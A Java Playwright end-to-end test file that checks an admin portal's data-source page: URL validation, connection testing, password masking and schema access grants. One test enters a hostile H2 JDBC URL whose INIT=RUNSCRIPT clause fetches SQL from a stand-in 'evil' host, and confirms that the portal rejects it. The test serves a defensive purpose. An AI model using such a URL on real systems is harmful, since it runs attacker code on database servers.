package io.esteira.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.assertions.LocatorAssertions;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** An administrator registers a data source, tests its connection, and bad addresses are refused. */
class DataSourcesIT extends PortalIT {

    @Test
    void an_administrator_registers_and_tests_a_data_source() {
        signIn("admin");
        page.navigate("/admin/datasources");
        assertThat(page.locator("#datasources-grid")).containsText("Bank warehouse (demo)",
                new LocatorAssertions.ContainsTextOptions().setTimeout(60_000));
        screenshot("admin-datasources");

        page.locator("#new-datasource").click();
        String name = "Risk mart " + UUID.randomUUID().toString().substring(0, 6);
        page.locator("#ds-name input").fill(name);
        page.locator("#ds-url input").fill("postgres://warehouse/analytics");
        page.locator("#save-datasource").click();
        assertThat(page.locator("#ds-url")).hasAttribute("invalid", "");
        assertThat(page.locator("#ds-url")).containsText("starts with jdbc:");

        page.locator("#ds-url input").fill("jdbc:h2:mem:riskmart;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
        page.locator("#ds-driver input").fill("org.h2.Driver");
        page.keyboard().press("Enter");
        page.locator("#save-datasource").click();
        assertThat(page.locator("#ds-url")).containsText("INIT is not allowed");
        screenshot("admin-datasource-invalid");

        page.locator("#ds-url input").fill("jdbc:h2:mem:riskmart");
        page.locator("#ds-username input").fill("sa");
        page.locator("#ds-password input").fill("not-shown-again");
        page.locator("#ds-test").click();
        assertThat(page.locator("#ds-test-result")).containsText("Connected to H2");
        // the creator of a new in-memory database is its administrator: people's queries will not run on that account
        assertThat(page.locator("#ds-test-result")).containsText("too powerful for people's queries");
        screenshot("admin-datasource-tested");
        page.locator("#save-datasource").click();
        assertThat(page.locator("#datasource-dialog")).hasCount(0);
        assertThat(page.locator("#datasources-grid")).containsText(name);

        page.locator("#datasources-grid").getByText(name).click();
        assertThat(page.locator("#ds-password input")).hasValue("");
        assertThat(page.locator("#ds-password")).containsText("Stored encrypted; leave empty to keep it");
    }

    @Test
    void an_administrator_sees_who_may_query_the_warehouse_and_grants_a_schema() {
        signIn("admin");
        page.navigate("/admin/datasources");
        page.locator("#datasources-grid").getByText("Bank warehouse (demo)").click(
                new com.microsoft.playwright.Locator.ClickOptions().setTimeout(60_000));
        assertThat(page.locator("#ds-username input")).hasValue("esteira_reader");
        assertThat(page.locator("#ds-write-username input")).hasValue("esteira_writer");
        page.locator("#ds-access").click();
        assertThat(page.locator("#source-grants")).containsText("Credit Risk");
        assertThat(page.locator("#source-grants")).containsText("Fraud");
        assertThat(page.locator("#source-grants")).not().containsText("Marketing");
        // the feature group's personal-data features classify the warehouse's columns
        assertThat(page.locator("#source-personal-columns")).containsText("bank.customers.email");
        assertThat(page.locator("#source-personal-columns")).containsText("feature group customer_profile");

        page.locator("#grant-add").click();
        assertThat(page.locator("#grant-area")).hasAttribute("invalid", "");
        page.locator("#grant-area input").fill("Marketing");
        page.keyboard().press("Enter");
        page.locator("#grant-schema input").fill("bank");
        page.locator("#grant-add").click();
        assertThat(page.locator("#source-grants")).containsText("Marketing");
        screenshot("admin-datasource-access");
    }
}
